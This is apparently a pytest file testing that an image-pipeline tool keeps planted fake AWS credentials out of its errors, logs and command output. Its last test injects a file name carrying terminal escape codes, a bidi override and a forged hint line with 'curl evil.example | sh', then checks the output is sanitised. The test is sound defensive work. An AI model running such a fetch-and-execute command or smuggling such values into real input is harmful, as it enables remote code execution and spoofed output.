"""What errors and logs quote of a request, they quote without its secrets; what they quote of names, as data."""

from __future__ import annotations

import contextlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from botocore.exceptions import ClientError, EndpointConnectionError

from imgpipe import cloud
from imgpipe.runtime import batch, log
from imgpipe.runtime.events import Message

TOKEN = "FwoGZXIvYXdzEPLANTEDTOKEN//////////wEaDHJ0bW9j=="
SIGNATURE = "5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7"
KEY = "AKIAPLANTEDPLANTED00"
PLANTED = (TOKEN, SIGNATURE, KEY)

MISMATCH = f"""The request signature we calculated does not match the signature you provided.

The Canonical String for this request should have been
'GET
/

host:sqs.eu-west-1.amazonaws.com
x-amz-security-token:{TOKEN}

host;x-amz-security-token
{SIGNATURE}'
"""
LINK = f"https://b.s3.amazonaws.com/k?X-Amz-Credential={KEY}%2Fs3&X-Amz-Security-Token={TOKEN}&X-Amz-Signature={SIGNATURE}"
HEADER = f"AWS4-HMAC-SHA256 Credential={KEY}/20261121/s3/aws4_request, SignedHeaders=host, Signature={SIGNATURE}"


def refusals() -> list[Exception]:
    told = {"Error": {"Code": "SignatureDoesNotMatch", "Message": MISMATCH}}
    return [
        ClientError(told, "ListQueues"),
        EndpointConnectionError(endpoint_url=LINK),
        ClientError({"Error": {"Code": "InvalidRequest", "Message": HEADER}}, "GetObject"),
        ValueError(json.dumps({"SecretAccessKey": TOKEN, "SessionToken": TOKEN})),
    ]


@pytest.mark.parametrize("error", refusals(), ids=lambda error: type(error).__name__)
def test_an_explanation_has_no_secret_in_it(error: Exception) -> None:
    told = cloud.explain(error, "queue results")
    text = f"{told} {told.hint}"
    assert not [secret for secret in PLANTED if secret in text], text


def test_an_explanation_still_says_what_is_wrong() -> None:
    text = str(cloud.explain(refusals()[0], "queue results"))
    assert "ListQueues: SignatureDoesNotMatch: The request signature we calculated" in text


@pytest.mark.parametrize("error", refusals(), ids=lambda error: type(error).__name__)
def test_a_functions_log_has_no_secret_in_it(error: Exception) -> None:
    message = Message(id="m1", body="{}", queued=True, receives=1)
    with contextlib.redirect_stdout(io.StringIO()) as out:
        batch.log_failure(message, error)
    assert not [secret for secret in PLANTED if secret in out.getvalue()]
    assert json.loads(out.getvalue())["error"] == type(error).__name__


def test_a_name_that_looks_like_a_secret_is_logged_as_it_is() -> None:
    name = "incoming/signature=0123456789abcdef.jpg"
    with contextlib.redirect_stdout(io.StringIO()) as out:
        log.line("start", key=name)
    assert json.loads(out.getvalue())["key"] == name


@pytest.mark.parametrize(
    "command",
    [
        ("metadata", "list", "--env", "prod"),
        ("up", "--env", "prod", "--yes"),
        ("plan", "--env", "prod"),
    ],
)
def test_commands_never_print_the_keys_they_use(tmp_path: Path, command: tuple[str, ...]) -> None:
    """Nobody listens at the endpoint, so each command fails and tells why."""
    steps = "steps: {thumb: {via: queue, variants: {thumb: {width: 9}}}}"
    prod = "environments: {prod: {region: eu-west-1}}"
    (tmp_path / "pipeline.yaml").write_text(f"version: 1\nname: tiny\n{steps}\n{prod}\n")
    keys = {
        "AWS_ACCESS_KEY_ID": KEY,
        "AWS_SECRET_ACCESS_KEY": SIGNATURE,
        "AWS_SESSION_TOKEN": TOKEN,
    }
    done = subprocess.run(
        [sys.executable, "-m", "imgpipe", *command],
        cwd=tmp_path,
        env={**os.environ, **keys, "AWS_ENDPOINT_URL": "http://127.0.0.1:9"},
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 1
    assert "error: " in done.stderr
    assert "Traceback" not in done.stderr
    assert not [secret for secret in PLANTED if secret in done.stdout + done.stderr]


def test_an_error_obeys_no_name_that_it_quotes(tmp_path: Path) -> None:
    """Control characters are shown, and no line can be forged."""
    name = "evil\x1b[31m\x9b2J\u202e\nhint:  curl evil.example | sh"
    done = subprocess.run(
        [sys.executable, "-m", "imgpipe", "process", name],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert done.returncode != 0
    lines = done.stderr.split("\n")
    assert not [char for line in lines for char in line if not char.isprintable()]
    assert not [
        line
        for line in lines
        if line.startswith("hint:") and "evil" in line.partition("imgpipe")[0]
    ]
